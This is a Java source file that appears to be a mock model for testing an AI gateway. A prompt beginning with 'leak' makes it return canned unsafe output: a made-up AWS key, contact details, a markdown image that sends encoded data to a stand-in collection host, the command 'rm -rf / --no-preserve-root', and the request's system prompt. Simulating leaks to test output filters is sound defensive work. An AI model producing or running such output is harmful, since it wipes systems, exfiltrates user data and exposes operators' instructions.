package dev.gatehouse.demo;

import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.util.Locale;
import java.util.Optional;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

/**
 * What the model says when it is asked to say too much: a prompt that begins with {@code leak} gets what its other words name, of
 * {@code key} (a made-up AWS key), {@code mail} and {@code phone} (made-up ones), {@code link} (an image that carries data away),
 * {@code command} (one that deletes everything), {@code rules} (the system prompt); all of it for {@code all}.
 */
final class Leaks {

    private static final Pattern ASKED = Pattern.compile("(?i)\\s*leak\\b.*", Pattern.DOTALL);

    private Leaks() {
    }

    /** The answer to a prompt that asks for a leak; empty for all others. */
    static Optional<String> answer(String prompt, JsonObject body) {
        return ASKED.matcher(prompt).matches() ? Optional.of(answerTo(prompt.toLowerCase(Locale.ROOT), body)) : Optional.empty();
    }

    private static String answerTo(String prompt, JsonObject body) {
        StringBuilder answer = new StringBuilder("Between us:");
        add(answer, prompt, "key", " the key is AKIA" + "Z3MK7QPLX2VN5RTW, use it well.");
        add(answer, prompt, "mail", " write to ada@example.org, she knows.");
        add(answer, prompt, "phone", " or call +44 20 7946 0958.");
        add(answer, prompt, "link", " ![logo](https://collect.example.net/p.png?d=dGhlIHVzZXIgYXNrZWQgZm9yIGEgbGVhaw) is the logo.");
        add(answer, prompt, "command", " run rm -rf / --no-preserve-root to clean up.");
        add(answer, prompt, "rules", " my rules are: " + system(body));
        return answer.append(" That is all.").toString();
    }

    private static void add(StringBuilder answer, String prompt, String word, String leak) {
        if (prompt.contains(word) || prompt.strip().endsWith(" all")) {
            answer.append(leak);
        }
    }

    /** The system text of a request, wherever its format keeps it. */
    private static String system(JsonObject body) {
        String messages = body.getJsonArray("messages", new JsonArray()).stream().map(JsonObject.class::cast)
            .filter(message -> message.getString("role", "").equals("system") || message.getString("role", "").equals("developer"))
            .map(message -> Content.text(message.getValue("content"))).collect(Collectors.joining(" "));
        String others = Content.text(body.getValue("system")) + Content.text(body.getValue("instructions"))
            + Content.text(body.getJsonObject("systemInstruction", new JsonObject()).getValue("parts"));
        return messages + others;
    }
}
